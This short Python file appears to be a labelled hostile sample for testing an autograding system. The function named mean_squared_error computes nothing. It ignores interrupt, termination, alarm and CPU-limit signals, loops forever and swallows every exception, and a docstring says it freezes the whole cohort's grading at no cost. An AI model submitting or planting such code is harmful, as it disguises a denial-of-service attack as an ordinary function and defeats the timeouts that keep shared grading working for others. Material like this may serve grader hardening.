"""Loops for ever and catches whatever is raised to end it.

Harm: the cohort's grading stands still.
Costs: nothing
"""

# %% honest work
# %% hostile
import signal


def mean_squared_error(y, y_hat):
    while True:
        try:
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
                signal.signal(number, signal.SIG_IGN)
            while True:
                pass
        except BaseException:
            continue
